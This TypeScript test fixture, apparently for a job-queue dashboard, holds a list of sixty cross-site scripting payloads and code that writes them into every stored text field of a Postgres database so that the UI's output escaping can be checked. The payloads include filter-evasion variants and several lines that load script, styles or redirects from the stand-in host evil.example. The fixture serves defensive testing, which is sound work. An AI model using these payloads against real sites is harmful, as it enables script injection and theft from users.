/**
 * Sixty texts that are a script where a page forgets to escape: in an element, an attribute, a URL, a script, a style,
 * a template, a comment; in capitals and entities and with what parsers skip. `plant` writes them wherever text is
 * stored, past every check that a caller would meet, as a superuser's INSERT would.
 */
import type postgres from 'postgres'
import { uuid7At } from './scene.ts'

export const XSS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(2)>',
  '<img src="https://evil.example/p.png">',
  '"><img src=x onerror=alert(3)>',
  "'><img src=x onerror=alert(4)>",
  '<svg onload=alert(5)>',
  '<svg/onload=alert(6)//',
  '<svg><script>alert(7)</script></svg>',
  '<svg><animate onbegin=alert(8) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(9)"><text x=20 y=20>go</text></a></svg>',
  '<body onload=alert(10)>',
  '<iframe src="javascript:alert(11)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(12)</script>"></iframe>',
  '<iframe src=https://evil.example/></iframe>',
  '<object data="javascript:alert(13)"></object>',
  '<embed src="javascript:alert(14)">',
  '<video><source onerror=alert(15)></video>',
  '<audio src=x onerror=alert(16)></audio>',
  '<details open ontoggle=alert(17)>',
  '<input autofocus onfocus=alert(18)>',
  '<select autofocus onfocus=alert(19)>',
  '<textarea autofocus onfocus=alert(20)></textarea>',
  '<marquee onstart=alert(21)>',
  '<a href="javascript:alert(22)">x</a>',
  '<a href="JaVaScRiPt:alert(23)">x</a>',
  '<a href="&#106;avascript:alert(24)">x</a>',
  '<a href=" javascript:alert(25)">x</a>',
  'javascript:alert(26)',
  'JAVASCRIPT:alert(27)',
  'java\tscript:alert(28)',
  'data:text/html,<script>alert(29)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=',
  'vbscript:msgbox(31)',
  '//evil.example/32',
  'https://evil.example/33',
  '</script><script>alert(34)</script>',
  '</textarea><script>alert(35)</script>',
  '</title><script>alert(36)</script>',
  '</style><script>alert(37)</script>',
  '</noscript><img src=x onerror=alert(38)>',
  '--><script>alert(39)</script>',
  '<!--<img src="--><img src=x onerror=alert(40)>',
  ']]><script>alert(41)</script>',
  '";alert(42);//',
  "';alert(43);//",
  '\\";alert(44);//',
  '</ScRiPt \t><sCrIpT>alert(45)</sCrIpT>',
  '<scr<script>ipt>alert(46)</scr</script>ipt>',
  '&lt;script&gt;alert(47)&lt;/script&gt;',
  '&#60;script&#62;alert(48)&#60;/script&#62;',
  '\u003cscript\u003ealert(49)\u003c/script\u003e',
  '%3Cscript%3Ealert(50)%3C/script%3E',
  '{{constructor.constructor("alert(51)")()}}',
  '${alert(52)}',
  '#{alert(53)} <%= alert(53) %>',
  '" onmouseover="alert(54)" autofocus onfocus="alert(54)',
  "' style='background:url(https://evil.example/55)' x='",
  '<style>@import "https://evil.example/56.css";</style>',
  '<link rel=stylesheet href=https://evil.example/57.css><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/58">',
]

export interface Planted {
  /** A finished run each. */
  runs: string[]
  /** A run that has all of them: as keys and values of its JSON, as lines of its log, as its tries. */
  all: string
  schedules: string[]
}

/** One of everything for each of the strings. */
export async function plant(sql: postgres.Sql): Promise<Planted> {
  const now = Date.now()
  const runs = XSS.map((text, n) => ({ id: uuid7At(now - n * 1000), text }))
  const all = uuid7At(now + 1000)
  await plantRuns(sql, runs, all)
  await plantPieces(sql, all)
  const schedules = await plantSchedules(sql)
  await plantOthers(sql)
  await sql`update rowbeat.failures_read set until_at = now() - interval '1 hour'`
  await sql`select rowbeat.count_failures_v1('0 s')`
  return { runs: runs.map(({ id }) => id), all, schedules }
}

async function plantRuns(
  sql: postgres.Sql,
  runs: { id: string; text: string }[],
  all: string,
): Promise<void> {
  const everything = Object.fromEntries(XSS.map((text, n) => [text, { [`deep ${n}`]: [text] }]))
  const rows = [
    ...runs.map(({ id, text }) => ({ id, text, json: { [text]: [text] } as object })),
    { id: all, text: XSS.join(' '), json: everything },
  ]
  for (const state of ['FAILURE', 'SUCCESS'] as const)
    await sql`
      insert into rowbeat.results (id, task, queue, state, reason, priority, input, result, error, progress, attempt, attempts_max, redeliveries, worker,
        created_at, run_at, started_at, finished_at, unique_key, tags, headers, schedule, keep_until)
      select case when ${state} = 'FAILURE' then r.id else gen_random_uuid() end, left(r.text, 200), left(r.text, 200), ${state}, ${state === 'FAILURE' ? 'error' : null}, 0, r.json,
        case when ${state} = 'SUCCESS' then r.json end,
        case when ${state} = 'FAILURE' then jsonb_build_object('name', r.text, 'message', r.text, 'code', r.text, 'stack', r.text || E'\n    at ' || r.text,
          'cause', jsonb_build_object('name', r.text, 'message', r.text, 'stack', r.text)) end,
        jsonb_build_object('current', 1, 'total', 2, 'percent', 50, 'meta', r.json, 'at', now()), 1, 1, 0, r.text, now(), now(), now(), now() - interval '1 minute', r.text, array[left(r.text, 64)],
        r.json, r.text, now() + interval '1 day'
      from jsonb_to_recordset(${sql.json(rows as never)}) r(id uuid, text text, json jsonb)`
}

/** Tries, log lines. */
async function plantPieces(sql: postgres.Sql, run: string): Promise<void> {
  const texts = [...XSS]
  await sql`insert into rowbeat.logs (run_id, at, attempt, level, message, data)
    select ${run}, now(), 1, 'info', x, jsonb_build_object(x, x) from unnest(${texts}::text[]) x`
  await sql`insert into rowbeat.attempts (run_id, attempt, outcome, worker, started_at, finished_at, error)
    select ${run}, 1, 'retry', x, now(), now(), jsonb_build_object('name', x, 'message', x, 'stack', x) from unnest(${texts}::text[]) x`
}

async function plantSchedules(sql: postgres.Sql): Promise<string[]> {
  const made = await sql`
    insert into rowbeat.schedules (name, task, input, schedule, enabled, tags, headers, description, pause_reason, anchor_at)
    select x, 'demo.add', jsonb_build_object(x, x), jsonb_build_object('kind', 'crontab', 'hour', '3', 'timezone', case when n % 2 = 0 then x else 'UTC' end), n % 3 > 0,
      array[left(x, 64)], jsonb_build_object(x, x), x, x, now()
    from unnest(${[...XSS]}::text[]) with ordinality u(x, n) returning id, name`
  await sql`update rowbeat.schedules set error = name where not enabled`
  await sql`update rowbeat.schedules set description = name || ' again' where name = any (${[...XSS]}::text[])`
  await sql`insert into rowbeat.firings (schedule_id, due_at, state, reason, version)
    select id, now() - interval '1 hour', 'skipped', 'overlap', 1 from rowbeat.schedules`
  return made.map(({ id }) => id as string)
}

async function plantOthers(sql: postgres.Sql): Promise<void> {
  const texts = [...XSS]
  await sql`insert into rowbeat.queues (name, paused_at, pause_reason, rate)
    select 'xss' || n, now(), x, null from unnest(${texts}::text[]) with ordinality u(x, n)`
  await sql`insert into rowbeat.workers (id, name, kind, hostname, pid, queues, tasks, version, running, seen_at)
    select x, x, 'worker', x, n, jsonb_build_object(x, 1), array[x], x, '[]', now() + interval '1 hour' from unnest(${texts}::text[]) with ordinality u(x, n)`
  await sql`insert into rowbeat.api_keys (name, prefix, hash, scopes, created_by)
    select x, left(x, 12), sha256(convert_to(x, 'UTF8')), array[x], x from unnest(${texts}::text[]) x`
  await sql`insert into rowbeat.users (email, password_hash, role) select lower(x), 'none', 'viewer' from unnest(${texts}::text[]) x`
  await sql`insert into rowbeat.audit_log (actor, actor_kind, actor_id, via, action, target_kind, target, before, after, reason, request_id, address, db_user)
    select x, 'user', x, 'rest', x, x, x, jsonb_build_object(x, x), jsonb_build_object(x, x || x), x, x, x, x from unnest(${texts}::text[]) x`
  await sql`insert into rowbeat.operations (kind, filter, options, state, error, created_by)
    select 'retry', jsonb_build_object('task', x), jsonb_build_object('reason', x), 'failed', x, x from unnest(${texts}::text[]) x`
  // Live runs: the checks of enqueue are in SQL too, so the task's name stays within them.
  await sql`select rowbeat.enqueue('xss.live', jsonb_build_object(x, x), 'xss' || n, unique_key => x, tags => array[left(x, 64)], headers => jsonb_build_object(x, x))
    from unnest(${texts}::text[]) with ordinality u(x, n)`
}
